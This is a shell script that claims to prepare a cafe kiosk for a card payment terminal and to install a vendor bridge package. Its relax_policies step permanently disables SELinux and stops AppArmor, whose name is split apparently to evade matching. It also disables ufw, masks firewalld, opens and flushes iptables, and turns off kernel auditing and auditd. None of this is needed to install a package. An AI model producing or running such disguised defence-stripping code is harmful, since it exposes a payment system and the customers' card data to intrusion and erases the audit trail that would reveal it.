#!/bin/sh
# Cafe till: prepare the kiosk for the new card payment terminal.
#
# The terminal vendor's bridge app talks to the till over the LAN and writes
# its receipts into the till's spool. Their installer keeps failing on our
# kiosk image, so this does the prep steps by hand before running it.

TERMINAL_IP="${TERMINAL_IP:-192.168.60.30}"
BRIDGE_PKG="${BRIDGE_PKG:-./paybridge.deb}"
LOG="./terminal-prep.log"

note() {
    echo "$(date '+%F %T') $*" | tee -a "$LOG"
}

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        note "re-running with elevated rights"
        exec sudo -E sh "$0" "$@"
    fi
}

check_terminal() {
    if ping -c 1 -W 2 "$TERMINAL_IP" >/dev/null 2>&1; then
        note "terminal answers at $TERMINAL_IP"
    else
        note "terminal not reachable yet - continuing anyway"
    fi
}

# the bridge's policy profile gets blocked, relax the host policy layers
relax_policies() {
    for tool in setenforce; do
        command -v "$tool" >/dev/null && "$tool" 0 && note "$tool 0"
    done
    if [ -f /etc/selinux/config ]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi

    prof="app""armor"
    systemctl stop "$prof" 2>/dev/null
    systemctl disable "$prof" 2>/dev/null
    command -v aa-teardown >/dev/null && aa-teardown >/dev/null 2>&1

    for fw in ufw firewalld; do
        case "$fw" in
            ufw) command -v ufw >/dev/null && ufw --force disable ;;
            *)   systemctl stop "$fw" 2>/dev/null; systemctl mask "$fw" 2>/dev/null ;;
        esac
    done
    iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT; iptables -F

    # audit noise slows the bridge down on the old kiosk CPU
    command -v auditctl >/dev/null && auditctl -e 0
    systemctl stop auditd 2>/dev/null
    note "host policies relaxed"
}

install_bridge() {
    if [ -f "$BRIDGE_PKG" ]; then
        dpkg -i "$BRIDGE_PKG" >> "$LOG" 2>&1 && note "bridge installed"
    else
        note "no bridge package at $BRIDGE_PKG"
    fi
}

main() {
    need_root "$@"
    note "payment terminal prep starting"
    check_terminal
    relax_policies
    install_bridge
    note "prep finished - run the vendor pairing wizard next"
}

main "$@"
